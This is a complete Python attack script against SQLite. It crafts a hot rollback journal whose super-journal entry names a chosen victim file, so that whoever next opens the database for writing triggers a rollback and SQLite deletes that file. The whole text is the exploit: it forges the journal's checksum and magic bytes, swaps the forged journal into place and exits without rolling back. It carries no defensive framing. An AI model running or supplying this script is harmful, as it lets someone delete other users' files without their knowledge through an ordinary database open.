#!/usr/bin/python3
"""Leaves a hot journal beside a database that names another file as its super-journal.

    super_journal.py DATABASE VICTIM

Whoever opens the database to write rolls it back, and SQLite then deletes the file that the journal names.
"""

import os
import sqlite3
import struct
import sys

MAGIC = bytes.fromhex("d9d505f920a163d7")
PENDING_BYTE = 0x40000000


def main():
    path, victim = sys.argv[1], sys.argv[2].encode()
    database = sqlite3.connect(path, isolation_level=None)
    database.executescript("PRAGMA journal_mode=DELETE; PRAGMA cache_size=1")
    page_size = database.execute("PRAGMA page_size").fetchone()[0]
    database.execute("CREATE TABLE IF NOT EXISTS filler (x)")
    database.execute("BEGIN")
    database.executemany("INSERT INTO filler VALUES (zeroblob(3000))", [()] * 200)
    with open(path + "-journal", "rb") as journal:
        content = journal.read()
    checksum = sum(byte - 256 if byte > 127 else byte for byte in victim) & 0xFFFFFFFF
    name = struct.pack(">I", PENDING_BYTE // page_size + 1) + victim
    with open(path + "-made", "wb") as made:
        made.write(content + name + struct.pack(">II", len(victim), checksum) + MAGIC)
    os.rename(path + "-made", path + "-journal")
    os._exit(0)  # without the rollback


main()
